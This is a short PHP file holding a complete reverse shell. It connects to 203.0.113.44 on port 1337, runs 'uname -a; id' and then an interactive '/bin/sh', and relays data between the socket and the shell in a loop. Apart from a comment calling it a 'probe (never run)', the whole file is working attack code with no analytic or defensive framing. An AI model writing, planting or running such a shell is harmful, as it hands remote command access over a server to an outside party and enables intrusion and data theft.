<?php
// probe (never run): a connect-back shell that pumps bytes between a socket and a shell's pipes
set_time_limit(0);
$addr = '203.0.113.44';
$port = 1337;
$chunk = 1400;
$sock = fsockopen($addr, $port, $errno, $errstr, 30);
if (!$sock) { exit(1); }
$descriptorspec = array(0 => array("pipe", "r"), 1 => array("pipe", "w"), 2 => array("pipe", "w"));
$process = proc_open('uname -a; id; /bin/sh -i', $descriptorspec, $pipes);
stream_set_blocking($pipes[0], 0); stream_set_blocking($pipes[1], 0);
stream_set_blocking($pipes[2], 0); stream_set_blocking($sock, 0);
while (1) {
    if (feof($sock) || feof($pipes[1])) break;
    $read_a = array($sock, $pipes[1], $pipes[2]);
    $num = stream_select($read_a, $w, $x, null);
    if (in_array($sock, $read_a)) { fwrite($pipes[0], fread($sock, $chunk)); }
    if (in_array($pipes[1], $read_a)) { fwrite($sock, fread($pipes[1], $chunk)); }
    if (in_array($pipes[2], $read_a)) { fwrite($sock, fread($pipes[2], $chunk)); }
}
fclose($sock); proc_close($process);
